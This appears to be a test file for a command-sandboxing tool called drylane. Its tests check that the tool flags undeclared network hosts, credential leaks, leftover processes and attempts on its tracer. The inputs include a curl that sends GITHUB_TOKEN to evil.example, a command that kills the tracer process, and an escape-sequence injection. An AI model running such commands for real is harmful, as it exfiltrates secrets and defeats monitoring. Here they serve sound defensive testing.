import type { Rehearsal } from '@drylane/proto/rehearsal';
import { describe, expect, it } from 'vitest';
import { drylane, drylaneJson } from './drylane.ts';
import { makePlace } from './place.ts';

const rulesOf = (document: Rehearsal): string[] => document.findings.map(({ rule }) => rule);

describe('evidence through the command line', () => {
  it('tells a declared host from another one, and a credential that went to the wrong one', async () => {
    await using place = await makePlace('leak');
    const flags = ['--json', '--read-only', '--state', place.state, '--network', 'api.github.com:443'];
    const command =
      'curl -s https://api.github.com/x; curl -s "https://evil.example/?t=$GITHUB_TOKEN"; curl -s -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/y';

    const { status, document } = drylaneJson<Rehearsal>(
      ['rehearse', ...flags, '--', command, '--credential', 'GITHUB_TOKEN'],
      { cwd: place.site, env: { GITHUB_TOKEN: 'ghp_0000000000000000000000000000000000real' } },
    );

    expect(status).toBe(10);
    const { evidence } = document;
    expect(
      evidence.network.map(({ step, program, host, declared }) => [step, program, host, declared]),
    ).toEqual([
      [0, 'curl', 'api.github.com', true],
      [1, 'curl', 'evil.example', false],
      [2, 'curl', 'api.github.com', true],
    ]);
    expect(evidence.canaries).toEqual([{ credential: 'GITHUB_TOKEN', where: 'argv', path: null, step: 1 }]);
    expect(evidence.steps.map(({ exit_code }) => exit_code)).toEqual([6, 6, 6]);
    expect(rulesOf(document)).toEqual(
      expect.arrayContaining([
        'undeclared-network',
        'canary-leak',
        'stripped-capability',
        'sandbox-caused-failure',
      ]),
    );
    expect(evidence.fidelity.mocked_credentials).toEqual(['GITHUB_TOKEN']);
    expect(evidence).toMatchObject({ complete: true });
    expect(JSON.stringify(document)).not.toContain('ghp_');
  });

  it('gives a command its made-up credentials and never the real ones', async () => {
    await using place = await makePlace('mock');
    const flags = ['--json', '--expect', 'out', '--state', place.state, '--credential', 'GITHUB_TOKEN'];
    const command = 'case $GITHUB_TOKEN in *real) echo real;; ghp_*) echo made up;; esac > out; cat out';
    const { document } = drylaneJson<Rehearsal>(['rehearse', ...flags, '--', command], {
      cwd: place.site,
      env: { GITHUB_TOKEN: 'ghp_0000000000000000000000000000000000real' },
    });
    expect(document.evidence.stdout.text).toBe('made up\n');
    expect(rulesOf(document)).toEqual(['stripped-capability']);
    expect(document.verdict).toBe('hold');
  });

  it('names what a command left running, in a chain too', async () => {
    await using place = await makePlace('leftover');
    const { status, document } = drylaneJson<Rehearsal>(
      ['rehearse', '--json', '--read-only', '--state', place.state, '--', 'true && (sleep 300 &) ; echo b'],
      { cwd: place.site },
    );
    expect(status).toBe(11);
    expect(document.evidence.leftovers).toMatchObject([{ argv: ['sleep', '300'] }]);
    expect(rulesOf(document)).toEqual(['leftover-process']);
  });

  it('blocks a command that reaches for the tracer, though it cannot hurt it', async () => {
    await using place = await makePlace('tracer');
    const { status, document } = drylaneJson<Rehearsal>(
      [
        ...['rehearse', '--json', '--read-only', '--state', place.state, '--'],
        'kill -9 $(sed -n "s/TracerPid:\\t//p" /proc/self/status); curl -s http://evil.example/; true',
      ],
      { cwd: place.site },
    );
    expect(status).toBe(10);
    expect(rulesOf(document)).toEqual(
      expect.arrayContaining(['privileged-attempt', 'evidence-incomplete', 'undeclared-network']),
    );
  });

  it('shows people what was reached for, in words that are safe to show', async () => {
    await using place = await makePlace('words');
    const command = `python3 -c 'import socket
socket.socket(socket.AF_UNIX).connect("/run/\\x1b[31mred")'; true`;
    const { stdout } = drylane(['rehearse', '--read-only', '--state', place.state, '--', command], {
      cwd: place.site,
    });
    expect(stdout).toContain('red (unix) by python3');
    expect(stdout).toContain('not declared');
    expect(stdout).not.toContain('\u001b');
  });
});
